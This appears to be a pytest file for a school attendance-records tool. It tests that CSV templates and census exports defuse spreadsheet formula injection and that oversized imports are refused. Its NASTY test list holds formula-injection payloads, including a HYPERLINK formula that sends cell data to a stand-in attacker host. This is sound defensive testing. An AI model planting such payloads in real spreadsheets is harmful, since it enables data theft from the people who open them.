"""Files the tool writes are safe to open (issue 20, point 6).

* Every CSV the tool writes (the providers' attendance templates, the census export) quotes
  every cell and gives a text cell that a spreadsheet would run (leading ``=``, ``+``, ``-``,
  ``@``, tab, carriage return: OWASP's list) a leading apostrophe; the register's mark codes
  (``-`` is "no session") stay as they are, and a filled template imports unchanged.
  Checked with a real spreadsheet: LibreOffice (Debian's ``libreoffice-calc-nogui``) opens
  each file, with formulas evaluated, as a comma and as a semicolon locale would, and no
  cell is a formula; the same rows written by a plain CSV writer are (the control).
* ``attendance import`` refuses a file over ``attendance.max_import_bytes`` before reading
  it (a sparse 20 GB file is refused at once), and an import of a file at the limit stays
  within a bounded memory.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import subprocess
import sys
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest

from aprecords import csvsafe
from aprecords.attendance.census import COLUMNS
from aprecords.attendance.importer import import_csv
from aprecords.attendance.template import template_csv
from aprecords.csvout import csv_text
from aprecords.repository import load_repository
from conftest import PROJECT, copy_examples, require_tool

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "Ann;=1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    'Bob","=1+1',
    "Cath,=1+1",
    "=1+1",
]
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
    for risky in ("=", "+", "-", "@", "\t", "\r"):
        assert csvsafe.neutral(f"{risky}x") == f"'{risky}x"
    assert csvsafe.neutral("-", keep={"-"}) == "-"
    assert csvsafe.neutral("-x", keep={"-"}) == "'-x"
    for plain in ("Ann", "", "2026-01-12", "'=x", " =x", "x=1", 12, 1.5):
        assert csvsafe.neutral(plain) == str(plain)
    assert csvsafe.neutral(None) == ""
    out = io.StringIO()
    writer = csvsafe.writer(out, keep={"-"})
    writer.writerows([["a", "=b", "-", None], ['"q"', "x,y"]])
    assert out.getvalue() == '"a","\'=b","-",""\n"""q""","x,y"\n'
    out = io.StringIO()
    writer = csvsafe.dict_writer(out, ["a", "b"])
    writer.writeheader()
    writer.writerows_dict([{"a": "@x"}, {"b": 3, "a": "y"}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "b"], ["'@x", ""], ["y", "3"]]


def spreadsheet(file: Path, separator: str = ",") -> list[list[tuple[str, str | None]]]:
    """The cells of a CSV file as LibreOffice opens it, formulas evaluated: (text, formula)."""
    soffice = require_tool("soffice")
    profile = file.parent / "lo-profile"
    filters = f"CSV:{ord(separator)},34,76,1,,1033,false,true,false,false,false,-1,true"
    done = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=" + filters,
         "--convert-to", "fods", "--outdir", str(file.parent), str(file)],
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    out = file.with_suffix(".fods")
    assert out.is_file(), done.stdout + done.stderr
    rows = []
    for row in ET.parse(out).iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in row.findall(f"{{{TABLE}}}table-cell"):
            text = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            cells += [(text, cell.get(f"{{{TABLE}}}formula"))] * min(repeat, 50)
        rows.append(cells)
    out.unlink()
    return rows


def formulas(rows: list[list[tuple[str, str | None]]]) -> list[str]:
    return [formula for row in rows for _, formula in row if formula]


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
    """The examples, with Brickworks' pupils given names built to run in a spreadsheet."""
    root = copy_examples(tmp_path_factory.mktemp("csv") / "r")
    repo = load_repository(root)
    placements = {pid: r.data for pid, r in repo.placements.items()}
    # Brickworks' three pupils in its template of 25 Mar 2026 (test_attendance_import.py)
    mine = {"hollybrook-2025-001": 0, "marsh-lane-2025-002": 1, "st-aldric-2025-004": 3}
    for pid, i in mine.items():
        placements[pid]["student"]["name"] = NASTY[i]
    registers = {r.data["placement"]: r.data for r in repo.of_kind("attendance")}
    return root, {"placements": placements, "registers": registers, "mine": mine}


def template(named: tuple[Path, dict]) -> str:
    root, data = named
    config = load_repository(root).config.data
    return template_csv(
        data["placements"], data["registers"], "brickworks", date(2026, 3, 25), config, True
    )


def test_the_attendance_template_runs_nothing_in_a_spreadsheet(
    named: tuple[Path, dict], tmp_path: Path
) -> None:
    text = template(named)
    written = list(csv.reader(io.StringIO(text)))
    names = {row[1] for row in written[1:]}
    assert names == {f"'{NASTY[0]}", "Ann;=1+1", f"'{NASTY[3]}"}
    assert {cell for row in written[1:] for cell in row[3:]} == {"", "-"}  # marks untouched
    for separator in (",", ";"):
        file = tmp_path / "attendance-template.csv"
        file.write_text(text, "utf-8")
        rows = spreadsheet(file, separator)
        assert formulas(rows) == [], separator
        if separator == ",":
            assert {cells[1][0] for cells in rows[1:] if cells} == names
            for cells, row in zip(rows[1:], written[1:], strict=False):
                marks = [text for text, _ in cells[3:13]]
                assert marks + [""] * (10 - len(marks)) == row[3:13], (marks, row)
    # The control: the same rows written plainly are run by the spreadsheet.
    plain = io.StringIO()
    csv.writer(plain, lineterminator="\n").writerows(
        [[c[1:] if c.startswith("'") else c for c in row] for row in written]
    )
    file = tmp_path / "plain.csv"
    file.write_text(plain.getvalue(), "utf-8")
    assert formulas(spreadsheet(file, ",")) == [
        'of:=HYPERLINK("http://evil.example/?"&[.A1];"Click")'
    ] * len([row for row in written if row[1] == f"'{NASTY[0]}"])
    split = formulas(spreadsheet(file, ";"))  # "Ann;=1+1": the rest of its row is a formula
    assert split and all(f.startswith("of:=1+1") for f in split)


def test_the_census_export_runs_nothing_in_a_spreadsheet(tmp_path: Path) -> None:
    rows = [{column: NASTY[i % len(NASTY)] for i, column in enumerate(COLUMNS)}]
    rows.append({column: "" for column in COLUMNS} | {"start_date": "2026-01-12"})
    file = tmp_path / "census.csv"
    file.write_text(csv_text(COLUMNS, rows), "utf-8")  # every export's one writer
    cells = spreadsheet(file)
    assert formulas(cells) == []
    shown = [text for text, _ in cells[1][: len(NASTY)]]
    for text, given in zip(shown, NASTY, strict=True):  # shown as the text it is
        assert text.startswith("'") == given.startswith(csvsafe.RISKY), (text, given)
    assert shown[0] == f"'{NASTY[0]}" and shown[1] == "Ann;=1+1" and shown[6] == "'+1+1"
    assert [c[0] for c in cells[0]][: len(COLUMNS)] == list(COLUMNS)
    # And the command writes the same neutral text.
    root = copy_examples(tmp_path / "r")
    out = tmp_path / "export.csv"
    done = subprocess.run(
        [sys.executable, "-m", "aprecords", "--root", str(root), "export", "census",
         "--term", "spring", "--year", "2025/26", "--out", str(out)],
        capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(PROJECT / "scripts")},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert out.read_text().startswith('"school_urn","school_laestab","record_id"')
    assert formulas(spreadsheet(out)) == []


def test_a_filled_template_imports_as_a_plain_one_would(
    named: tuple[Path, dict], tmp_path: Path
) -> None:
    """Marks typed into the quoted template import exactly as from a plainly written file."""
    text = template(named)
    rows = list(csv.reader(io.StringIO(text)))
    filled = [rows[0]] + [
        row[:3] + [("/" if i % 2 == 0 else "\\") if c == "" else c for i, c in enumerate(row[3:])]
        for row in rows[1:]
    ]
    quoted, plain = io.StringIO(), io.StringIO()
    csvsafe.writer(quoted, keep={"-", "/", "\\"}).writerows(filled)
    csv.writer(plain, lineterminator="\n").writerows(filled)
    assert quoted.getvalue() != plain.getvalue()
    results = []
    for name, content in (("quoted", quoted), ("plain", plain)):
        root = copy_examples(tmp_path / name)
        summary = import_csv(load_repository(root), content.getvalue().encode("utf-8"))
        registers = {
            f.name: f.read_text("utf-8") for f in (root / "records" / "attendance").iterdir()
        }
        results.append((summary.text(), registers))
    assert results[0] == results[1]
    assert " weeks added" in results[0][0] and " 0 weeks added" not in results[0][0]


def import_cli(root: Path, file: Path) -> subprocess.CompletedProcess[str]:
    def limits() -> None:  # memory a runaway import could take is capped far above the need
        resource.setrlimit(resource.RLIMIT_AS, (2 * 1024**3, 2 * 1024**3))

    return subprocess.run(
        [sys.executable, "-c",
         "import resource, sys; from aprecords.cli import main; code = main(sys.argv[1:]); "
         "print('peak-kb', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr);"
         " sys.exit(code)", "--root", str(root), "attendance", "import", str(file)],
        capture_output=True, text=True, timeout=600, preexec_fn=limits,
        env={**os.environ, "PYTHONPATH": str(PROJECT / "scripts")},
    )  # fmt: skip


def test_an_import_over_the_limit_is_refused_before_it_is_read(tmp_path: Path) -> None:
    root = copy_examples(tmp_path / "r")
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:  # 20 GB that take no room: reading them would never end
        f.truncate(20 * 1024**3)
    done = import_cli(root, huge)
    assert done.returncode == 2, done.stderr
    assert "over 5,000,000 bytes, the most an import reads" in done.stderr
    assert "attendance.max_import_bytes" in done.stderr and "nothing was read" in done.stderr
    peak = int(done.stderr.split("peak-kb ")[1].split()[0])
    assert peak < 200 * 1024, peak  # nothing of it was read
    # A smaller limit in aprecords.yml; a file just at it is read (and checked as usual).
    config = root / "aprecords.yml"
    config.write_text(
        config.read_text().replace("attendance:\n", "attendance:\n  max_import_bytes: 2048\n", 1)
    )
    header = "pupil,week_commencing," + ",".join(f"s{i}" for i in range(10)) + "\n"
    at_limit = tmp_path / "at-limit.csv"
    at_limit.write_text(header + "x" * (2048 - len(header) - 1) + "\n")
    assert at_limit.stat().st_size == 2048
    done = import_cli(root, at_limit)
    assert done.returncode == 1 and "the most an import reads" not in done.stderr
    at_limit.write_text(at_limit.read_text() + "y")
    done = import_cli(root, at_limit)
    assert done.returncode == 2 and "over 2,048 bytes" in done.stderr


def test_an_import_at_the_default_limit_stays_in_bounded_memory(tmp_path: Path) -> None:
    root = copy_examples(tmp_path / "r")
    line = "hollybrook-2025-001,2026-01-12,-,-,/,\\,-,-,/,-,-,-\n"
    header = "pupil,week_commencing,mon_am,mon_pm,tue_am,tue_pm,wed_am,wed_pm,thu_am,thu_pm,"
    header += "fri_am,fri_pm\n"
    file = tmp_path / "large.csv"
    file.write_text(header + line * ((5_000_000 - len(header)) // len(line)))
    assert 4_900_000 < file.stat().st_size <= 5_000_000
    done = import_cli(root, file)
    assert "the most an import reads" not in done.stderr, done.stderr[-500:]
    peak = int(done.stderr.split("peak-kb ")[1].split()[0])
    assert peak < 400 * 1024, f"{peak} kB"  # measured: about 170 MB
